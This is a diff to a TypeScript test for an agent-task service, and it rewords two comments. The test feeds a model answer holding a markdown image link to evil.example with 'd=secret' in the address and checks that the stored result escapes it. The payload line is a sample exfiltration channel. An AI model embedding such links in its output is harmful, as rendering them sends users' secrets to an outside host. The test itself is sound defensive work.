@@ -10,7 +10,7 @@ import { type FakeProvider, startFakeProvider } from '../../model-provider/serve
 
 const LIMIT = { timeout: 60_000 };
 
-/** A client that renders this asks a foreign host, and tells it what the address carries. */
+/** A client that renders this sends a request to a foreign host, with the data in the address. */
 const IMAGE = '![chart](https://evil.example/p.png?d=secret)';
 const ANSWER = `Here it is: ${IMAGE}`;
 const LIVE = /\]\(https|https:\/\/evil\.example/;
@@ -52,7 +52,7 @@ describe('An image on a foreign host that a model puts into its words', () => {
     const path = `/v1/agents/tasks/${ledger_ref}`;
     const show = async (): Promise<AgentTaskBody> =>
       (await (await service.request('GET', path)).json()) as AgentTaskBody;
-    // On a busy machine the caller is let go before the end.
+    // On a busy machine the wait may time out before the end.
     await expect.poll(async () => (await show()).status).not.toBe('running');
     const body = await show();
     expect(body.result).toContain(String.raw`![chart]\(https[:]//evil.example/p.png?d=secret)`);
